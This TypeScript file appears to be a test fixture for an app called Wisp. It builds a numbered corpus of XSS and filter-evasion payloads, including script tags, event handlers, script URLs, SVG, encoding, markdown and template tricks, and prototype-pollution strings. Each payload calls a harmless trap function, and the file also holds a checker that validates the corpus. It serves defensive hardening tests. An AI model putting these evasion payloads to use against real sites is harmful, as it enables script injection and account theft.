// A corpus of XSS and filter-evasion payloads, written for Wisp's end-to-end hardening
// test in the style of the OWASP XSS Filter Evasion Cheat Sheet: script tags, event
// handlers, javascript:/data:/vbscript: URLs, SVG and MathML, broken markup, entity,
// Unicode and encoding tricks, template-literal and Lit-specific tricks, markdown-link
// tricks, payloads wrapped in the app's own formatting (backticks, ** and _), CSS,
// iframe srcdoc, meta refresh, base href and form actions.
//
// Every payload, if it ever ran, calls the trap `__xss(n)` with its own number n (the
// test exposes that function in every frame of every browser context), so a hit names
// the payload that got through. Where a payload hides the call (entities, base64, string
// building), the hidden code still calls `__xss(n)`.
//
// Rules every payload keeps, so that it reaches the app unchanged: no leading or trailing
// white space (the composer trims), no leading "/" (that would be a command), no NUL or
// CR (a textarea normalises them), at most 2,000 characters (the message limit).

export interface Payload {
  /** 1-based; the argument of its trap call. */
  n: number;
  family: Family;
  text: string;
}

export type Family =
  | 'script'
  | 'handler'
  | 'url'
  | 'svg-math'
  | 'broken'
  | 'encoding'
  | 'template'
  | 'markdown'
  | 'formatting'
  | 'css'
  | 'frames'
  | 'js-context';

const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
const entities = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
const hexEntities = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join('');

type Source = string | ((n: number) => string);

/** `{n}` stands for the payload's number. */
const CORPUS: [Family, Source[]][] = [
  [
    'script',
    [
      '<script>__xss({n})</script>',
      '<ScRiPt>__xss({n})</sCrIpT>',
      '<SCRIPT>__xss({n})</SCRIPT>',
      '<script/xss>__xss({n})</script>',
      '<<SCRIPT>__xss({n});//<</SCRIPT>',
      '<script>__xss({n})<!--',
      '</script><script>__xss({n})</script>',
      '<script type="module">__xss({n})</script>',
      '<scr<script>ipt>__xss({n})</scr</script>ipt>',
      '"><script>__xss({n})</script>',
      "'><script>__xss({n})</script>",
      "<script>eval('__x'+'ss({n})')</script>",
      '<script>/*</script><script>*/__xss({n})</script>',
      (n) => `<script src="data:text/javascript,__xss(${n})"></script>`,
      '<script src=//xss.invalid/{n}.js></script>',
      '<script\n>__xss({n})</script\n>',
    ],
  ],
  [
    'handler',
    [
      '<img src=x onerror=__xss({n})>',
      '<img src="x" onerror="__xss({n})">',
      '<IMG SRC=x ONERROR=__xss({n})>',
      '<img src=x onerror=__xss&#40;{n}&#41;>',
      "<img src=x onerror=eval('__xss({n})')>",
      '<img """><script>__xss({n})</script>">',
      '<img src=x onerror="javascript:__xss({n})">',
      '<body onload=__xss({n})>',
      '<svg onload=__xss({n})>',
      '<svg/onload=__xss({n})>',
      '<input autofocus onfocus=__xss({n})>',
      '<details open ontoggle=__xss({n})>',
      '<video><source onerror=__xss({n})></video>',
      '<audio src=x onerror=__xss({n})>',
      '<marquee onstart=__xss({n})>x</marquee>',
      '<div onmouseover="__xss({n})">hover me</div>',
      '<select autofocus onfocus=__xss({n})>',
      '<textarea autofocus onfocus=__xss({n})>',
      '<iframe onload=__xss({n})></iframe>',
      '<object data=x onerror=__xss({n})>',
      '<img src=x onerror=__xss({n})//',
      '<img/src=x/onerror=__xss({n})>',
      '<img src=x onerror\t=__xss({n})>',
      '<img src=x\nonerror=__xss({n})>',
      '<a href="#" onclick="__xss({n})">click</a>',
      '<body onpageshow=__xss({n})>',
      '<x contenteditable autofocus onfocus=__xss({n})>',
      "<img src=x onerror=top['__x'+'ss']({n})>",
      "<img src=x onerror=window[atob('X194c3M=')]({n})>",
      "<img src=x onerror=setTimeout('__xss({n})')>",
      "<img src=x onerror=import('data:text/javascript,__xss({n})')>",
      '<img src=x onerror=\\u005f_xss({n})>',
    ],
  ],
  [
    'url',
    [
      '<a href="javascript:__xss({n})">x</a>',
      '<a href="JaVaScRiPt:__xss({n})">x</a>',
      '<a href="jav&#x09;ascript:__xss({n})">x</a>',
      (n) => `<a href="${entities(`javascript:__xss(${n})`)}">x</a>`,
      (n) => `<a href="${hexEntities('javascript:')}__xss(${n})">x</a>`,
      '<a href=" &#14;  javascript:__xss({n})">x</a>',
      '<iframe src="javascript:__xss({n})">',
      '<iframe src="data:text/html,<script>__xss({n})</script>">',
      (n) => `<object data="data:text/html;base64,${b64(`<script>__xss(${n})</script>`)}">`,
      '<embed src="javascript:__xss({n})">',
      '<form action="javascript:__xss({n})"><button>go</button></form>',
      '<button formaction="javascript:__xss({n})">go</button>',
      '<a href="vbscript:__xss({n})">x</a>',
      '<img src="vbscript:__xss({n})">',
      '<meta http-equiv="refresh" content="0;url=javascript:__xss({n})">',
      (n) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>__xss(${n})</script>`)}">`,
      '<base href="javascript:__xss({n})//">',
      '<link rel="stylesheet" href="javascript:__xss({n})">',
      '<isindex action="javascript:__xss({n})" type=image>',
      'javascript:__xss({n})',
      'JAVASCRIPT:__xss({n})',
      'data:text/html,<script>__xss({n})</script>',
      'vbscript:__xss({n})',
      'javascript://%0A__xss({n})',
    ],
  ],
  [
    'svg-math',
    [
      '<svg><script>__xss({n})</script></svg>',
      '<svg><script href="data:,__xss({n})"/></svg>',
      '<svg><animate onbegin=__xss({n}) attributeName=x dur=1s>',
      '<svg><set attributeName="onmouseover" to="__xss({n})"/></svg>',
      '<svg><a xlink:href="javascript:__xss({n})"><text x="20" y="20">x</text></a></svg>',
      '<math><maction actiontype="statusline" xlink:href="javascript:__xss({n})">x</maction></math>',
      '<svg><foreignObject><iframe srcdoc="&lt;script&gt;__xss({n})&lt;/script&gt;"></iframe></foreignObject></svg>',
      '<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>',
      '<svg></p><style><a id="</style><img src=1 onerror=__xss({n})>">',
      '<math><mi xlink:href="data:x,<script>__xss({n})</script>">',
      "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss({n})'/></svg>#x\"/></svg>",
      '<svg><image href=x onerror=__xss({n})>',
    ],
  ],
  [
    'broken',
    [
      '<<img src=x onerror=__xss({n})>>',
      '<noscript><p title="</noscript><img src=x onerror=__xss({n})>">',
      '</title><img src=x onerror=__xss({n})>',
      '</textarea><img src=x onerror=__xss({n})>',
      '</style><img src=x onerror=__xss({n})>',
      '<!--<img src="--><img src=x onerror=__xss({n})//">',
      '<![CDATA[<img src=x onerror=__xss({n})>]]>',
      '<?xml version="1.0"?><img src=x onerror=__xss({n})>',
      '<a href="x" <img src=x onerror=__xss({n})>>',
      '<template><img src=x onerror=__xss({n})></template>',
      '<img src=`x`onerror=__xss({n})>',
      '<img src=x onerror=__xss({n}) <b>',
      '--><script>__xss({n})</script>',
      '<div id="x"></div><img src=x onerror=__xss({n})><div>',
    ],
  ],
  [
    'encoding',
    [
      '&lt;script&gt;__xss({n})&lt;/script&gt;',
      '&#60;img src=x onerror=__xss({n})&#62;',
      '&#x3C;img src=x onerror=__xss({n})&#x3E;',
      '\\x3cimg src=x onerror=__xss({n})\\x3e',
      '\\u003cimg src=x onerror=__xss({n})\\u003e',
      '%3Cimg%20src%3Dx%20onerror%3D__xss({n})%3E',
      '%253Cscript%253E__xss({n})%253C%252Fscript%253E',
      '\uff1cscript\uff1e__xss({n})\uff1c/script\uff1e',
      '<scr\u200bipt>__xss({n})</scr\u200bipt>',
      '<img src=x\u2028onerror=__xss({n})>',
      '+ADw-script+AD4-__xss({n})+ADw-/script+AD4-',
      '<img src=x onerror="&#0000095;&#0000095;xss({n})">',
      '<img src=x onerror="&#x5F;&#x5F;xss({n})">',
      '\\"><img src=x onerror=__xss({n})>',
      '<\u0131mg src=x onerror=__xss({n})>',
      '<\u017fcript>__xss({n})</\u017fcript>',
      '\u202e<img src=x onerror=__xss({n})>',
      '%u003cscript%u003e__xss({n})%u003c/script%u003e',
      '\u00bcscript\u00be__xss({n})\u00bc/script\u00be',
      '<img src=x onerror=__xss({n})\u034f>',
    ],
  ],
  [
    'template',
    [
      '${__xss({n})}',
      '`${__xss({n})}`',
      '<!--?lit$123456$--><img src=x onerror=__xss({n})>',
      'lit$123$<img src=x onerror=__xss({n})>',
      '<?lit$1$>__xss({n})',
      "{{constructor.constructor('__xss({n})')()}}",
      "{{$on.constructor('__xss({n})')()}}",
      '#{__xss({n})}',
      '<%= __xss({n}) %>',
      '[[${__xss({n})}]]',
      "<div .innerHTML=\"${'<img src=x onerror=__xss({n})>'}\"></div>",
      '<div @click=${() => __xss({n})}>click</div>',
      '<img src=x ?onerror=${__xss({n})}>',
      '{{7*7}}<img src=x onerror=__xss({n})>',
      '<!--?lit$0$-->${__xss({n})}<!---->',
    ],
  ],
  [
    'markdown',
    [
      '[x](javascript:__xss({n}))',
      '[x](JAVASCRIPT:__xss({n}))',
      (n) => `[x](data:text/html;base64,${b64(`<script>__xss(${n})</script>`)})`,
      '[x](vbscript:__xss({n}))',
      '![x](x" onerror="__xss({n}))',
      '[x](https://example.org" onclick="__xss({n}))',
      '[a](javascript:__xss&#40;{n}&#41;)',
      'https://example.org/?q=<script>__xss({n})</script>',
      'https://example.org/#"onmouseover="__xss({n})"',
      'mailto:x@example.org?subject=<img src=x onerror=__xss({n})>',
      "https://example.org/'onmouseover='__xss({n})'",
      '[![x](javascript:__xss({n}))](javascript:__xss({n}))',
      '<https://example.org/"><img src=x onerror=__xss({n})>>',
      'https://javascript:__xss({n})@example.org/',
      'HTTPS://EXAMPLE.ORG/<svg/onload=__xss({n})>',
    ],
  ],
  [
    'formatting',
    [
      '**<img src=x onerror=__xss({n})>**',
      '*<svg onload=__xss({n})>*',
      '_<script>__xss({n})</script>_',
      '`<img src=x onerror=__xss({n})>`',
      '```\n<script>__xss({n})</script>\n```',
      '```html\n<img src=x onerror=__xss({n})>\n```',
      '***<b onclick=__xss({n})>x</b>***',
      '**_`<svg/onload=__xss({n})>`_**',
      '**a**<img src=x onerror=__xss({n})>**b**',
      '`<script>__xss({n})</script>',
      '**\u200b<img src=x onerror=__xss({n})>\u200b**',
      '_*_<img src=x onerror=__xss({n})>_*_',
      '**https://example.org/<img src=x onerror=__xss({n})>**',
      '**<a href="javascript:__xss({n})">bold link</a>**',
      '`` `<img src=x onerror=__xss({n})>` ``',
    ],
  ],
  [
    'css',
    [
      '<div style="background:url(javascript:__xss({n}))">x</div>',
      "<style>@import 'javascript:__xss({n})';</style>",
      '<style>body{background:url("javascript:__xss({n})")}</style>',
      '<div style="width:expression(__xss({n}))">x</div>',
      '<link rel=stylesheet href="data:text/css,body{background:url(javascript:__xss({n}))}">',
      '<div style="behavior:url(x.htc)" onmouseover=__xss({n})>x</div>',
      '<style>*{background-image:url("javascript:__xss({n})")}</style><b>x</b>',
      '<p style="x:\\65xpression(__xss({n}))">x</p>',
    ],
  ],
  [
    'frames',
    [
      '<iframe srcdoc="<script>__xss({n})</script>"></iframe>',
      '<iframe srcdoc="&lt;img src=x onerror=__xss({n})&gt;"></iframe>',
      '<base href="data:/,__xss({n})/"><script src="x.js"></script>',
      '<form><button formaction=javascript:__xss({n})>x</button></form>',
      '<form id=f action=javascript:__xss({n})><input type=submit></form>',
      '<frameset onload=__xss({n})>',
      '<embed src="data:text/html,<script>__xss({n})</script>">',
      '<applet code="javascript:__xss({n})"></applet>',
      '<object type="text/x-scriptlet" data="javascript:__xss({n})"></object>',
      '<meta http-equiv="refresh" content="0;url=http://xss.invalid/?{n}">',
      '<portal src="javascript:__xss({n})"></portal>',
    ],
  ],
  [
    'js-context',
    [
      "';__xss({n});//",
      '";__xss({n});//',
      "\\';__xss({n});//",
      '</title><script>__xss({n})</script>',
      '__proto__[innerHTML]=<img src=x onerror=__xss({n})>',
      'constructor[prototype][innerHTML]=<img/src/onerror=__xss({n})>',
      '{"__proto__":{"innerHTML":"<img src=x onerror=__xss({n})>"}}',
      '";}</script><script>__xss({n})</script>',
      'a\u2028__xss({n})\u2029b',
      '</script><svg onload=__xss({n})>',
    ],
  ],
];

export const PAYLOADS: readonly Payload[] = (() => {
  const out: Payload[] = [];
  for (const [family, sources] of CORPUS) {
    for (const source of sources) {
      const n = out.length + 1;
      const text = typeof source === 'function' ? source(n) : source.replaceAll('{n}', String(n));
      out.push({ n, family, text });
    }
  }
  return out;
})();

/** The corpus keeps its own rules (see the top of this file); throws if one is broken. */
export function checkCorpus(payloads: readonly Payload[] = PAYLOADS): void {
  const seen = new Set<string>();
  for (const p of payloads) {
    const what = `payload ${p.n} (${JSON.stringify(p.text)})`;
    if (seen.has(p.text)) throw new Error(`${what} is a duplicate`);
    seen.add(p.text);
    if (p.text !== p.text.trim()) throw new Error(`${what} starts or ends with white space`);
    if (p.text.startsWith('/')) throw new Error(`${what} starts with "/"`);
    if (/[\0\r]/.test(p.text)) throw new Error(`${what} holds NUL or CR`);
    if ([...p.text].length > 2000) throw new Error(`${what} is longer than a message may be`);
    // The trap call is there in the clear or hidden (entities, base64, JS escapes, a
    // script URL that would be fetched): decoded, the payload names its own number.
    const decoded = reveal(p.text);
    if (!new RegExp(`\\(${p.n}\\)|/${p.n}\\.js|\\?${p.n}"`).test(decoded)) throw new Error(`${what} does not call its trap __xss(${p.n})`);
  }
}

/** The payload with entities, percent-escapes and base64 runs decoded (for checkCorpus). */
function reveal(text: string): string {
  const unEntity = text.replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16))).replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)));
  const fromBase64 = [...unEntity.matchAll(/[A-Za-z0-9+/]{16,}={0,2}/g)].map((m) => Buffer.from(m[0], 'base64').toString('utf8'));
  return [unEntity, ...fromBase64].join('\n');
}
